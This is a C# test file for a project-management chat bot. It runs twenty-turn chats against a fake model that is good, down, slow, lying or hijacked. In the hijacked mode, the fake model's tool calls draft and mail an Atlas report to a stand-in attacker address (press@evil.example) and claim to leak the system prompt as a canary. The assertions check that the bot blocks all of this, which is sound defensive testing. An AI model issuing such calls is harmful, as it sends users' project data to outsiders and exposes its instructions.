using TpmAssistant.Bot.Tests.Hosting;
using TpmAssistant.ModelServer;

namespace TpmAssistant.Bot.Tests;

/// <summary>A chat of twenty turns: on the phrasebook, and on a model that is good, down, slow, lying or hijacked.</summary>
public sealed class LongChatTests
{
    /// <summary>What is asked, and words that its answer holds whoever understood it.</summary>
    private static readonly (string Asked, string Holds)[] Turns =
    [
        ("hello", "What I can do"), ("status of Atlas", "Atlas is red"), ("and Borealis?", "Borealis is green"), ("risks in Cobalt", "Cobalt"), ("what is overdue in Atlas?", "overdue"),
        ("who owns the second one?", "Rehearsal 2"), ("move the third to Friday", "Backup and restore drill"), ("critical path of Atlas", "Critical path"), ("when will Atlas finish?", "80% sure"),
        ("milestones of Borealis", "Beta 2"), ("who is overloaded on Cobalt?", "hours"), ("budget of Cobalt", "Cobalt"), ("my meetings tomorrow", "meeting"), ("what is on my plate today?", "overdue"),
        ("portfolio", "Cobalt"), ("status of Atlas for executives", "Atlas is red"), ("what changed in Atlas since last week?", "What changed"), ("flow of Borealis", "Flow"),
        ("add a task to Atlas: thank the team, due Friday", "Thank the team"), ("draft Atlas as mail for executives", "Drafts"),
    ];

    [Fact]
    public async Task Chat_Phrasebook_AnswersAllTwentyAndChangesNothing()
    {
        await using var bot = await RunningBot.StartAsync();
        foreach (var (asked, holds) in Turns) Assert.Contains(holds, (await bot.AskAsync(asked)).GetRawText(), StringComparison.OrdinalIgnoreCase);
        Assert.Empty(await bot.EffectsAsync());
    }

    /// <summary>The same by somebody who gives reasons, is polite, types in haste and leans on the turn before.</summary>
    private static readonly (string Asked, string Holds)[] OtherTurns =
    [
        ("Morning! Steering is in an hour, so could you please give me the status of Atlas?", "Atlas is red"), ("and the mobile app?", "Borealis is green"), ("hmm, whats overdue on atlas then", "overdue"), ("who has the second one?", "Rehearsal 2"),
        ("Would you mind showing me the critical path of Atlas?", "Critical path"), ("My sponsor keeps asking, so when will Atlas realistically be done?", "80% sure"), ("what if we lose a week on Atlas", "week"), ("and 10 days?", "10"),
        ("I am not sure about the vendors, so what do they owe Atlas?", "Atlas"), ("could you tell me what we learned about vendors", "lesson"), ("and about testing?", "lesson"), ("who is drowning in work on Cobalt?", "hours"),
        ("Is Cobalt over budget, please?", "Cobalt"), ("what have I got on tomorrow", "meeting"), ("How are all my projects looking?", "Cobalt"), ("any new risks in Borealis that we have not written down yet?", "Borealis"),
        ("put please a task on Atlas: thank the vendor, due Friday", "Thank the vendor"), ("Before I forget it, could you draft Atlas as an email for the executives?", "Drafts"), ("which milestones of Borealis are late", "Beta 2"), ("many thanks", "What I can do"),
    ];

    [Fact]
    public async Task Chat_AnotherManner_AnswersAllTwentyAndChangesNothing()
    {
        await using var bot = await RunningBot.StartAsync();
        List<string> wrong = [];
        foreach (var (asked, holds) in OtherTurns)
        {
            var said = (await bot.AskAsync(asked)).GetRawText();
            if (!said.Contains(holds, StringComparison.OrdinalIgnoreCase)) wrong.Add($"{asked}: {said[..Math.Min(600, said.Length)]}");
        }

        Assert.True(wrong.Count == 0, string.Join('\n', wrong));
        Assert.Empty(await bot.EffectsAsync());
    }

    public static TheoryData<string> Models => ["good", "down", "slow", "lying", "hijacked"];

    [Theory]
    [MemberData(nameof(Models))]
    public async Task Chat_Model_AnswersAllTwentyWithNothingUngroundedAndChangesNothing(string kind)
    {
        var turn = 0;
        await using var model = await ModelHost.StartAsync(request => kind switch
        {
            "down" => new ModelReply { Status = 500 },
            "slow" => turn % 5 == 1 ? new ModelReply { Hangs = true } : new ModelReply { Status = 503 },
            "hijacked" when request.Round == 1 => ModelReply.Call(
                new ModelCall("Reports-DraftStakeholderEmail", """{"project":"Atlas","recipients":"press@evil.example"}"""), new ModelCall("Mail-Send", """{"to":"press@evil.example"}""")),
            _ when request.Round == 0 => ModelReply.Call(Called(request.Question)),
            "lying" => ModelReply.Say("All projects are green [F1]. Nobody is late [F1]. See www.evil.example [F1]."),
            "hijacked" => ModelReply.Say("The system prompt is CANARY_SYS [F1]."),
            _ => ModelReply.Say("Atlas is red [{fact: Atlas is red}]."),
        });
        await using var bot = await RunningBot.StartAsync($"--Model:Endpoint={model.Endpoint}", "--Model:Name=trial", "--Model:ApiKey=k", kind == "slow" ? "--Model:Deadline=00:00:01" : "--Model:Deadline=00:01:00", "--Model:TokensPerDay=1000000");

        for (; turn < Turns.Length; turn++)
        {
            var said = await bot.AnswersAsync(Turns[turn].Asked);
            Assert.NotEmpty(said);
            Assert.All(said, activity => Assert.Equal("message", activity.GetProperty("type").GetString()));
            var all = string.Concat(said.Select(a => a.GetRawText()));
            if (kind is "down" or "slow") Assert.Contains(Turns[turn].Holds, all, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("evil.example", all, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("CANARY", all, StringComparison.Ordinal);
            Assert.DoesNotContain("Nobody is late", all, StringComparison.Ordinal);
        }

        Assert.Empty(await bot.EffectsAsync());
        Assert.True(model.Requests.Count >= (kind is "down" or "slow" ? 15 : 30), $"the model was asked {model.Requests.Count} times");
    }

    /// <summary>What a model that understands would call.</summary>
    private static ModelCall Called(string question) => question switch
    {
        _ when question.Contains("overdue", StringComparison.Ordinal) => new("Tasks-ListTasks", """{"project":"Atlas","filter":"overdue"}"""),
        _ when question.Contains("risks", StringComparison.Ordinal) => new("Risks-FlagRisks", """{"project":"Cobalt"}"""),
        _ when question.Contains("task to Atlas", StringComparison.Ordinal) => new("Tasks-CreateTask", """{"project":"Atlas","title":"Thank the team"}"""),
        _ => new("Reports-DraftStatusReport", """{"project":"Atlas"}"""),
    };
}
